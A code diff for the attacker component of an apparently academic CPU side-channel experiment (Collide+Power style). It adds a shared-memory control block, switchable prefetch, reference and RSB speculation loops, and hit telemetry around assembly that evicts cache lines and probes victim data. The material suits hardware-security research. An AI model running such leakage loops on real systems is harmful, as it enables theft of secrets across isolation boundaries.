@@ -1,12 +1,16 @@
 // make sure sched stuff works
 #define _GNU_SOURCE
 
+// the runner picks the core (place_attackers) and measures it, env_setup must not migrate away
+#define ENV_FIXED_CORE
+
 #include "common.h"
+#include "env.h"
+#include "control.h"
 
 #include <fcntl.h>
 #include <pthread.h>
 #include <sched.h>
-#include <signal.h>
 #include <stdio.h>
 #include <sys/mman.h>
 #include <time.h>
@@ -47,13 +51,33 @@ static uint8_t *eviction_buffer;
 #warning COUNT_HITS_IN_ASM should not be used with MEASURE_ACCESS_TIME as MEASURE_ACCESS_TIME will only measure cache misses if COUNT_HITS_IN_ASM is enabled.
 #endif /* COUNT_HITS_IN_ASM && MEASURE_ACCESS_TIME */
 
-/* copy pasted collide + power stuff */
+// iterations of the loops between two polls of the control block
+#define POLL_ITERATIONS 100
 
-static char const *SHM_ATTACKER = "/shm_attacker";
-static char const *SHM_VICTIM   = "/shm_victim";
+/* copy pasted collide + power stuff */
 
-static uint8_t *cp_attacker;
-static uint8_t *cp_victim;
+static char const *SHM_CONTROL = "/shm_control";
+
+// guess / value published by the runner
+static struct control_block *control;
+static struct control_state state;
+// bytes of guess / value the last state wrote into the buffers
+static uint32_t filled;
+// slot of this instance in the control block (the runner starts one instance per attacker core)
+static uint32_t instance;
+
+// loop variants, the initial one is the third argument, later states of the runner may switch it
+enum variant {
+    VARIANT_PF,
+    VARIANT_REF,
+    VARIANT_RSB,
+};
+static char const *const variant_names[] = { "pf", "ref", "rsb" };
+static uint32_t variant = VARIANT_RSB;
+
+// telemetry published at every loop boundary
+static uint64_t iterations;
+static uint64_t hits;
 
 // pin pthread to specific core
 uint8_t pin_to_exact_thread_pthread(pthread_t thread, uint8_t core) {
@@ -77,95 +101,113 @@ uint8_t pin_to_exact_thread_pthread(pthread_t thread, uint8_t core) {
     return core;
 }
 
-static uint8_t *get_shm(char const *shm_name) {
-    int fd = shm_open(shm_name, O_RDONLY, S_IRUSR | S_IWUSR);
-    if ( fd < 0 ) {
-        perror("shm_open");
-        return NULL;
+// called at loop boundaries: publishes the telemetry, applies a new state of the runner and acknowledges it, so the runner only starts
+// measuring once the buffers hold the new guess / value
+static inline void apply_control(void) {
+    control_report(control, instance, iterations, hits, variant);
+    if ( !control_poll(control, &state) ) {
+        return;
     }
-    void *addr = mmap(NULL, 0x1000, PROT_READ, MAP_SHARED, fd, 0);
-    if ( addr == MAP_FAILED ) {
-        perror("mmap");
-        return NULL;
+    // the used bytes of guess / value, the bytes a larger earlier state left behind are cleared
+    uint32_t cleared = filled > state.bytes ? filled - state.bytes : 0;
+    for ( int i = 0; i < 16; ++i ) {
+        memcpy(eviction_buffer + i * 4096 + (3 * STRIDE), state.guess, state.bytes);
+        memset(eviction_buffer + i * 4096 + (3 * STRIDE) + state.bytes, 0, cleared);
     }
-    return (uint8_t *)addr;
-}
-
-static void signal_handler(int signum) {
-    if ( signum == SIGUSR1 ) {
-        if ( colliding_buffer ) {
-            for ( int i = 0; i < 16; ++i ) {
-                memset(eviction_buffer + i * 4096 + (3 * STRIDE), *cp_attacker, 64);
-            }
-        }
-        if ( victim_buffer ) {
-            memset(victim_buffer + (3 * STRIDE), *cp_victim, 64);
-        }
+    memcpy(victim_buffer + (3 * STRIDE), state.value, state.bytes);
+    memset(victim_buffer + (3 * STRIDE) + state.bytes, 0, cleared);
+    filled = state.bytes;
+    // the loop returns to main once it sees the other variant
+    if ( state.variant < sizeof(variant_names) / sizeof(variant_names[0]) ) {
+        variant = state.variant;
     }
+    control_ack(control, instance, state.sequence);
+    // all instances resume together, so the measurement never sees a mix of old and new states
+    control_barrier(control, state.sequence);
 }
 
 /* end copy pasted collide + power stuff */
 
 void collide_power_loop_ref() {
     for ( ;; ) {
-        asm volatile(
-            // evict l1
-            "mov 0x00000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x01000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x02000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x03000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x04000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x05000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x06000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x07000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x08000(%[eviction_buf]), %[tmp]\n"
-
-            // access line directly
-            "mov (%[target_mem]), %[tmp]\n"
-            :
-            : [eviction_buf] "r"(eviction_buffer + 3 * STRIDE), [target_mem] "r"(victim_buffer + 3 * STRIDE), [tmp] "r"(0));
+        apply_control();
+        if ( variant != VARIANT_REF ) {
+            return;
+        }
+        // leave the loop every POLL_ITERATIONS iterations to poll the control block, as collide_power_loop does
+        for ( uint32_t i = 0; i < POLL_ITERATIONS; ++i ) {
+            asm volatile(
+                // evict l1
+                "mov 0x00000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x01000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x02000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x03000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x04000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x05000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x06000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x07000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x08000(%[eviction_buf]), %[tmp]\n"
+
+                // access line directly
+                "mov (%[target_mem]), %[tmp]\n"
+                :
+                : [eviction_buf] "r"(eviction_buffer + 3 * STRIDE), [target_mem] "r"(victim_buffer + 3 * STRIDE), [tmp] "r"(0));
+        }
+        iterations += POLL_ITERATIONS;
     }
 }
 
 void collide_power_loop_rsb() {
     for ( ;; ) {
-        asm volatile(
-            // evict l1
-            "mov 0x00000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x01000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x02000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x03000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x04000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x05000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x06000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x07000(%[eviction_buf]), %[tmp]\n"
-            "mov 0x08000(%[eviction_buf]), %[tmp]\n"
-
-            "1:                                  \n"
-            "call 2f                             \n"
-            // access line directly
-            "mov (%[target_mem]), %[tmp]         \n"
-            "lfence                              \n"
-
-            "2:                               \n"
-            "    lea 4f(%%rip), %%rax         \n"
-            "    movq %%rax, (%%rsp)          \n"
-            "    ret                          \n"
-            "4:                               \n"
-            "    nop                          \n"
-
-            :
-            : [eviction_buf] "r"(eviction_buffer + 3 * STRIDE), [target_mem] "r"(victim_buffer + 3 * STRIDE), [tmp] "r"(0), "a"(0));
+        apply_control();
+        if ( variant != VARIANT_RSB ) {
+            return;
+        }
+        // leave the loop every POLL_ITERATIONS iterations to poll the control block, as collide_power_loop does
+        for ( uint32_t i = 0; i < POLL_ITERATIONS; ++i ) {
+            asm volatile(
+                // evict l1
+                "mov 0x00000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x01000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x02000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x03000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x04000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x05000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x06000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x07000(%[eviction_buf]), %[tmp]\n"
+                "mov 0x08000(%[eviction_buf]), %[tmp]\n"
+
+                "1:                                  \n"
+                "call 2f                             \n"
+                // access line directly
+                "mov (%[target_mem]), %[tmp]         \n"
+                "lfence                              \n"
+
+                "2:                               \n"
+                "    lea 4f(%%rip), %%rax         \n"
+                "    movq %%rax, (%%rsp)          \n"
+                "    ret                          \n"
+                "4:                               \n"
+                "    nop                          \n"
+
+                :
+                : [eviction_buf] "r"(eviction_buffer + 3 * STRIDE), [target_mem] "r"(victim_buffer + 3 * STRIDE), [tmp] "r"(0), "a"(0));
+        }
+        iterations += POLL_ITERATIONS;
     }
 }
 
 void collide_power_loop() {
     for ( ;; ) {
-        uint64_t hits = 0;
+        apply_control();
+        if ( variant != VARIANT_PF ) {
+            return;
+        }
+        uint64_t loop_hits = 0;
         asm volatile("mov $0, %%r10\n"
 
-                     // label to jump to
-                     "loop:\n"
+                     // label to jump to (numeric, the compiler may duplicate the asm)
+                     "1:\n"
 
                      // evict L1
                      "mov 0x00000(%[eviction_buf]), %%rax\n"
@@ -239,9 +281,9 @@ void collide_power_loop() {
                      "or %%rax, %%rdx\n"
                      "sub %%rdi, %%rdx\n"
                      "cmp $140, %%rdx\n"
-                     "ja nohit\n"
+                     "ja 2f\n"
                      "add $1, %[hits_o]\n"
-                     "nohit:\n"
+                     "2:\n"
 
                      // flush possibly prefetched address
                      "mov %[victim_buffer], %%rdi\n"
@@ -253,19 +295,19 @@ void collide_power_loop() {
                      "mfence\n"
 #endif /* COUNT_HITS_IN_ASM */
 
-                     // run loop again
-                     //"inc %%r10\n"
-                     //"cmp $1000000, %%r10\n"
-                     "jmp loop\n"
+                     // run loop again, leave it every POLL_ITERATIONS iterations to poll the control block
+                     "inc %%r10\n"
+                     "cmp $" XSTR(POLL_ITERATIONS) ", %%r10\n"
+                     "jb 1b\n"
 
-                     : [hits] "=r"(hits)
-                     : [hits_o] "0"(hits), [eviction_buf] "r"(eviction_buffer + 3 * STRIDE), [colliding_buffer] "r"(colliding_buffer), [gadget] "r"(gadget),
+                     : [hits] "=r"(loop_hits)
+                     : [hits_o] "0"(loop_hits), [eviction_buf] "r"(eviction_buffer + 3 * STRIDE), [colliding_buffer] "r"(colliding_buffer), [gadget] "r"(gadget),
                        [victim_buffer] "r"(victim_buffer), [victim_gadget] "r"(victim_gadget)
                      : "rax", "rdx", "rdi", "r10");
 
-#if ( COUNT_HITS_IN_ASM == 1 )
-        printf("hits: %zu\n", hits);
-#endif /* COUNT_HITS_IN_ASM */
+        // published with the next apply_control, stays 0 without COUNT_HITS_IN_ASM
+        iterations += POLL_ITERATIONS;
+        hits += loop_hits;
 
 #if ( MEASURE_ACCESS_TIME == 1 )
         printf("time: %zu\n", probe(&victim_buffer[3 * STRIDE]));
@@ -277,17 +319,31 @@ void collide_power_loop() {
 int main(int argc, char **argv) {
     /* copy pasted collide + power stuff */
 
-    if ( argc != 2 ) {
-        printf("usage!\n");
+    if ( argc < 2 || argc > 4 ) {
+        printf("usage: %s core [instance] [pf|ref|rsb]\n", argv[0]);
         return -1;
     }
+    instance = argc > 2 ? strtoul(argv[2], NULL, 10) : 0;
+    if ( argc > 3 ) {
+        for ( variant = 0; variant < sizeof(variant_names) / sizeof(variant_names[0]); ++variant ) {
+            if ( !strcmp(argv[3], variant_names[variant]) ) {
+                break;
+            }
+        }
+        if ( variant == sizeof(variant_names) / sizeof(variant_names[0]) ) {
+            printf("unknown loop variant %s\n", argv[3]);
+            return -1;
+        }
+    }
 
     pin_to_exact_thread_pthread(pthread_self(), strtol(argv[1], NULL, 10));
 
-    signal(SIGUSR1, signal_handler);
+    env_setup();
 
-    cp_attacker = get_shm(SHM_ATTACKER);
-    cp_victim   = get_shm(SHM_VICTIM);
+    control = control_open(SHM_CONTROL);
+    if ( !control || instance >= control->attackers ) {
+        return -1;
+    }
 
     /* end copy pasted collide + power stuff */
 
@@ -306,6 +362,21 @@ int main(int argc, char **argv) {
     threshold = calculate_threshold();
     printf("threshold: %zu\n", threshold);
 
-    // run prefetching loop
-    collide_power_loop_rsb();
+    // the runner waits for this before it publishes the first state
+    control_ready(control);
+
+    // run prefetching loop, a loop only returns when the runner switches the variant
+    for ( ;; ) {
+        switch ( variant ) {
+            case VARIANT_PF:
+                collide_power_loop();
+                break;
+            case VARIANT_REF:
+                collide_power_loop_ref();
+                break;
+            default:
+                collide_power_loop_rsb();
+                break;
+        }
+    }
 }